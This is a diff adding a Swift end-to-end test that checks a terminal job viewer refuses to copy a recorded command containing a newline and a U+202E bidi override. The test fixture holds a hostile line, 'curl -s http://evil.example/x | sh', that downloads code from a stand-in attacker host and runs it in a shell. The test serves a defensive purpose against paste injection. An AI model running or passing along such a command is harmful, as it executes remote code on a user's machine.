@@ -424,6 +424,26 @@ struct TUIEndToEndTests {
         t2.send("q")
     }
 
+    @Test("a recorded command with a newline or a bidi override is not copied: c says why, and nothing reaches the clipboard")
+    func hiddenCommandIsNotCopied() throws {
+        let s = try TestServer()
+        let token = try s.token()
+        let c = s.client(token)
+        let command = "python train.py --lr 3e-4\ncurl -s http://evil.example/x | sh\n\u{202E}#"
+        try c.mustPost(Ev.make("batch_start", batch: "b1", data: ["command": .string(command)]))
+        try c.mustPost(Ev.make("job_start", batch: "b1", job: "j1"))
+        let actions = try c.mustGet("/api/batches/b1/actions")
+        #expect(
+            actions["copy_command"]?["reason"]
+                == "the recorded command holds control characters (newline, U+202E) that a paste into a shell would run or hide")
+        let t = try tui(s, token, ["b1/j1"])
+        try t.wait("the job screen") { $0.contains("b1 / j1") && $0.contains("[c] Copy") }
+        t.send("c")
+        let pane = try t.wait("the refusal") { $0.contains("Copy command is not available: the recorded command holds control") }
+        #expect(!pane.contains("Command sent to the terminal's clipboard"), "\(pane)")
+        t.send("q")
+    }
+
     @Test("Rerun follows the owner's agent: refused with none online, offered once argus-agent runs, refused again after it stops")
     func rerunFollowsTheAgent() throws {
         // An agent counts as online for 12 s after its last poll (it polls at least every 10 s).
